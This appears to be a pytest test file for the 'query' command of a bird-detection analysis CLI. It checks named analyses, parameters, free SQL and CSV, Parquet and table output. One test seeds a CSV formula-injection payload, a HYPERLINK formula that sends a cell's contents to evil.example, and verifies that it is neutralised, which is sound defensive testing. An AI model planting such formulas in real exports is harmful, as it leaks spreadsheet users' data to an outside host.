"""`dawnchorus query`: a named analysis with --param, --list, free SQL over the analysis views,
and the output as a table, CSV or Parquet."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pyarrow.parquet as pq
import pytest

from flows.cli.main import main
from tests.support.seed_catalog import OWL, ROBIN, WREN, Seed


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    root = tmp_path_factory.mktemp("results")
    seed = Seed(root)
    seed.deployment("d", site_id="S", timezone="Europe/London")
    seed.recording("d", datetime(2024, 6, 1, 3, tzinfo=timezone.utc), 3,
                   calls={0: [ROBIN], 1: [WREN, OWL], 2: [ROBIN]})
    return root


def test_list_names_every_analysis_and_its_parameters(capsys):
    assert main(["query", "--list"]) == 0
    out = capsys.readouterr().out
    assert "diel: diel activity" in out
    assert "--param species (varchar, default null)" in out
    assert "--param fingerprint_a (varchar, required)" in out


def test_a_named_analysis_with_parameters_as_csv(root, capsys):
    assert main(["query", "diel", "--results", str(root), "--param", "species=Eurasian Wren",
                 "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["label"], r["local_hour"], r["detections"]) for r in rows] == [("Eurasian Wren", "4", "1")]
    assert main(["query", "species_by_night", "--results", str(root), "--param", "threshold=0.85",
                 "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["label"] for r in rows} == {"European Robin"}


def test_parquet_and_table_output(root, tmp_path, capsys):
    out = tmp_path / "nights.parquet"
    assert main(["query", "species_by_night", "--results", str(root), "--format", "parquet",
                 "--out", str(out)]) == 0
    table = pq.read_table(out)
    assert table.num_rows == 3 and "effort_hours" in table.column_names
    assert main(["query", "first_last", "--results", str(root)]) == 0
    text = capsys.readouterr().out
    assert text.splitlines()[0].split()[:3] == ["site_id", "scientific_name", "label"]


def test_free_sql_over_views_with_parameters(root, capsys):
    assert main(["query", "--results", str(root), "--param", "species=Tawny Owl", "--format", "csv",
                 "select label, detections from diel"]) == 0
    assert capsys.readouterr().out.splitlines() == ['"label","detections"', '"Tawny Owl",1']


def test_bad_parameters_are_one_line_errors(root, capsys):
    for argv in (["query", "diel", "--results", str(root), "--param", "threshold=high"],
                 ["query", "diel", "--results", str(root), "--param", "nope=1"],
                 ["query", "agreement", "--results", str(root)]):
        assert main(argv) == 2
        err = capsys.readouterr().err.strip()
        assert err.startswith("dawnchorus: error:") and "\n" not in err, err


def test_csv_output_neutralises_formulas_in_text_cells_only(tmp_path, capsys):
    """`query --format csv` is read by spreadsheets too: a site id `=HYPERLINK(...)` gets OWASP's
    leading quote, a negative number stays a number."""
    root = tmp_path / "results"
    seed = Seed(root)
    seed.deployment("=1+2", site_id='=HYPERLINK("http://evil.example/?x="&A1)', timezone="UTC",
                    latitude=-33.5, longitude=-70.25)
    seed.recording("=1+2", datetime(2024, 6, 1, 3, tzinfo=timezone.utc), 1, calls={0: [ROBIN]})
    assert main(["query", "--results", str(root), "--format", "csv", "select deployment_id, "
                 "site_id, latitude, longitude, -1 as minus_one from deployments"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows == [{"deployment_id": "'=1+2", "site_id": "'=HYPERLINK(\"http://evil.example/?x=\"&A1)",
                     "latitude": "-33.5", "longitude": "-70.25", "minus_one": "-1"}]
